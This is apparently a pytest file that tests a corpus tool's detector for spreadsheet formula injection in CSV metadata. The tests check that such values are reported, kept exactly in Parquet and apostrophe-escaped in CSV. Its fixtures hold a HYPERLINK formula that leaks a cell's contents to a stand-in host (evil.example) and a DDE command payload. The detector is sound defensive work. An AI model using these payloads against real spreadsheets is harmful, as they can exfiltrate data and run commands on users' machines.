"""metadata.spreadsheet_formula: metadata values a spreadsheet would run, reported and kept."""

import csv
import io

import polars as pl
import pytest

from corpuscheck.checks.metadata.formula import FORMULA_STARTS, spreadsheet_formula
from corpuscheck.config import Config
from corpuscheck.pipeline import build
from corpuscheck.read import read_corpus
from tests.conftest import MANIFEST_HEADER

TEXT = "Le président a déclaré lundi que les négociations reprendraient.\n"
HYPERLINK = '"=HYPERLINK(""http://evil.example/?q=""&A1,""Lire la suite"")"'
CMD = "=cmd|' /C calc'!A0"


def findings(root):
    return list(spreadsheet_formula(read_corpus(root), Config()))


def test_seeds_have_no_formula(seeds):
    assert findings(seeds) == []


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_each_formula_start_is_reported(make_corpus, start):
    value = f'"{start}1+1"'
    root = make_corpus({"a.txt": TEXT}, manifest=f"{MANIFEST_HEADER}a.txt,fr,{value},,,,,\n")
    [finding] = findings(root)
    assert finding.doc_id == "a"
    assert finding.evidence["columns"] == ["title"]
    assert finding.evidence["values"]["title"] == f"{start}1+1"


def test_one_finding_per_row_naming_its_columns(make_corpus):
    body = f"{MANIFEST_HEADER}a.txt,fr,{HYPERLINK},{CMD},,,,\nb.txt,fr,Un titre,Le Monde,,,,\n"
    root = make_corpus({"a.txt": TEXT, "b.txt": TEXT}, manifest=body)
    [finding] = findings(root)
    assert finding.evidence["row"] == 1
    assert finding.evidence["columns"] == ["title", "source"]
    assert "HYPERLINK" in finding.message


def test_a_row_naming_no_document_is_reported_on_the_manifest(make_corpus):
    root = make_corpus({"a.txt": TEXT}, manifest=f"{MANIFEST_HEADER}@evil.txt,fr,,,,,,\n")
    [finding] = findings(root)
    assert finding.doc_id is None and finding.file == "metadata.csv"


def test_the_value_is_kept_in_parquet_and_quoted_in_csv(make_corpus, tmp_path):
    body = f"{MANIFEST_HEADER}a.txt,fr,{HYPERLINK},{CMD},,,,\n"
    root = make_corpus({"a.txt": TEXT}, manifest=body)
    result = build(root, tmp_path / "out")
    assert "metadata.spreadsheet_formula" in {f.rule for f in result.findings}
    exact = pl.read_parquet(tmp_path / "out/data/documents.parquet").row(0, named=True)
    assert exact["source"] == CMD
    assert exact["title"].startswith("=HYPERLINK(")
    text = (tmp_path / "out/data/documents.csv").read_text(encoding="utf-8")
    row = next(csv.DictReader(io.StringIO(text, newline="")))
    assert row["source"] == "'" + CMD
    assert row["title"].startswith("'=HYPERLINK(")
